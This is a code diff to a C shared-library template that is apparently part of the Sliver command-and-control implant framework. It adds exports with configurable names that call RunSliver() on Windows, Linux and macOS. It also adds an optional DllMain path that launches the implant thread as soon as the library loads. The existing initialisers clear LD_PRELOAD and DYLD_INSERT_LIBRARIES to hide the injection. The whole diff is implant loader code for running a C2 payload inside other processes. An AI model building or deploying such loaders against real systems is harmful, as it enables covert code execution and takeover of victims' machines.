@@ -8,6 +8,13 @@ DWORD WINAPI Enjoy()
     return 0;
 }
 
+// {{if ne .ExportName "RunSliver"}}
+__declspec(dllexport) void {{.ExportName}}()
+{
+    RunSliver();
+}
+// {{end}}
+
 BOOL WINAPI DllMain(
     HINSTANCE _hinstDLL, // handle to DLL module
     DWORD _fdwReason,    // reason for calling function
@@ -19,8 +26,14 @@ BOOL WINAPI DllMain(
         // Initialize once for each new process.
         // Return FALSE to fail DLL load.
         {
-            // HANDLE hThread = CreateThread(NULL, 0, Enjoy, NULL, 0, NULL);
+            // {{if .RunAtLoad}}
             // CreateThread() because otherwise DllMain() is highly likely to deadlock.
+            HANDLE hThread = CreateThread(NULL, 0, Enjoy, NULL, 0, NULL);
+            if (hThread != NULL)
+            {
+                CloseHandle(hThread);
+            }
+            // {{end}}
         }
         break;
     case DLL_PROCESS_DETACH:
@@ -40,6 +53,13 @@ BOOL WINAPI DllMain(
 
 void RunSliver();
 
+// {{if ne .ExportName "RunSliver"}}
+__attribute__((visibility("default"))) void {{.ExportName}}()
+{
+    RunSliver();
+}
+// {{end}}
+
 static void init(int argc, char **argv, char **envp)
 {
     unsetenv("LD_PRELOAD");
@@ -50,6 +70,13 @@ __attribute__((section(".init_array"), used)) static typeof(init) *init_p = init
 #elif __APPLE__
 void RunSliver();
 
+// {{if ne .ExportName "RunSliver"}}
+__attribute__((visibility("default"))) void {{.ExportName}}()
+{
+    RunSliver();
+}
+// {{end}}
+
 __attribute__((constructor)) static void init(int argc, char **argv, char **envp)
 {
     unsetenv("DYLD_INSERT_LIBRARIES");